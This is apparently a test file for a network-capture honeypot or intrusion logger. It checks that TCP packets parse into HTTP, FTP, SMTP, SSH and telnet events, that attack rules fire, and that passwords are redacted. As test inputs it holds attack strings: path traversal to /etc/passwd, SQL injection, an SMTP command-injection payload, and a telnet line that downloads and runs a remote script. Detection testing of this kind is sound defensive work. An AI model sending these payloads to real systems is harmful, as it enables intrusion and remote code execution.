import { deepStrictEqual, strictEqual } from 'node:assert/strict'
import { test } from 'node:test'
import type { Event } from '../../src/event/event.js'
import { assess } from '../../src/rules/assess.js'
import { joined, pcapHeader, pcapRecord } from '../packets/capture-bytes.js'
import { type Segment, tcpPacket } from '../packets/tcp-talk.js'
import { parseCapture } from './capture-outcomes.js'

/** The events of one connection, a packet each. */
function eventsOf(serverPort: number, ...segments: readonly Segment[]): readonly Event[] {
  const records = segments.map((segment, i) =>
    pcapRecord(tcpPacket(segment, serverPort), { ticks: i }),
  )
  const capture = joined(pcapHeader({ linkType: 101 }), ...records)
  return parseCapture(capture).packets.flatMap(({ parsed }) =>
    parsed.outcome === 'event' ? [parsed.event] : [],
  )
}

/** What the text of a client makes of its packet. */
function said(serverPort: number, text: string): Event {
  return eventsOf(serverPort, { from: 'client', sequence: 1, text })[0] as Event
}

test('the packet that completes a request is the request, with what it is as a packet beside it', () => {
  const request = 'GET /../../etc/passwd HTTP/1.1\r\nHost: a.example\r\nUser-Agent: x\r\n\r\n'
  const [first, second] = eventsOf(
    8080,
    { from: 'client', sequence: 1, text: request.slice(0, 20) },
    { from: 'client', sequence: 21, text: request.slice(20) },
  )
  strictEqual(first?.kind, 'packet')
  deepStrictEqual(
    [second?.kind, second?.service, second?.lengthBytes],
    ['http.request', 'http', 40 + request.length - 20],
  )
  deepStrictEqual(second?.detail, {
    tcpFlags: 16,
    payloadBytes: request.length - 20,
    method: 'GET',
    url: '/../../etc/passwd',
    host: 'a.example',
    userAgent: 'x',
  })
})

test('the rules of logs fire on captures', () => {
  const rules = [
    said(80, 'GET /?id=1%27%20union%20select%201-- HTTP/1.1\r\n\r\n'),
    said(21, 'SITE EXEC id\r\n'),
    said(25, 'RCPT TO:<${run{id}}@a>\r\n'),
    said(22, 'SSH-2.0-libssh_0.9\r\n'),
    said(23, 'wget http://a/x.sh; chmod 777 x.sh; ./x.sh\r\n'),
  ].map((event) => assess(event).attackType)
  deepStrictEqual(rules.includes('none'), false, rules.join())
})

test('what a client says has the kind it has in logs', () => {
  const kinds = [
    said(21, 'USER x\r\n'),
    said(25, 'EHLO x\r\n'),
    said(22, 'SSH-2.0-x\r\n'),
    said(23, 'ls\r\n'),
  ].map(({ kind, service }) => `${kind} ${service}`)
  deepStrictEqual(kinds, [
    'ftp.command ftp',
    'smtp.command smtp',
    'handshake ssh',
    'command telnet',
  ])
  const { client, argument } = said(25, 'EHLO x\r\n').detail
  deepStrictEqual([client, argument], ['x', 'x'])
  deepStrictEqual(said(25, 'MAIL FROM:<a@b>\r\n').detail.mailFrom, 'a@b')
})

test('a server is no visitor: what it answers stays a packet, with its words', () => {
  const [, answer] = eventsOf(
    21,
    { from: 'client', sequence: 1, text: 'PASS secret\r\n' },
    { from: 'server', sequence: 1, text: '530 Login incorrect.\r\n' },
  )
  deepStrictEqual(
    [answer?.kind, answer?.detail.status, answer?.detail.response],
    ['packet', 530, 'Login incorrect.'],
  )
})

test('no event holds a password', () => {
  const events = [
    said(21, 'PASS hunter2\r\n'),
    said(25, 'AUTH PLAIN hunter2\r\n'),
    ...eventsOf(
      23,
      { from: 'server', sequence: 1, text: 'login: ' },
      { from: 'client', sequence: 1, text: 'root\r\n' },
      { from: 'server', sequence: 8, text: 'Password: ' },
      { from: 'client', sequence: 7, text: 'hunter2\r\n' },
    ),
  ]
  strictEqual(JSON.stringify(events).includes('hunter2'), false)
  const { kind, detail } = events.at(-1) as Event
  deepStrictEqual([kind, detail.userName, detail.authMethod], ['auth.attempt', 'root', 'password'])
})

test('what a visitor types is held to the length of an event', () => {
  const { detail, quality } = said(80, `GET /${'a'.repeat(9000)} HTTP/1.1\r\n\r\n`)
  deepStrictEqual([detail.url?.length, quality], [8192, ['text_truncated']])
})
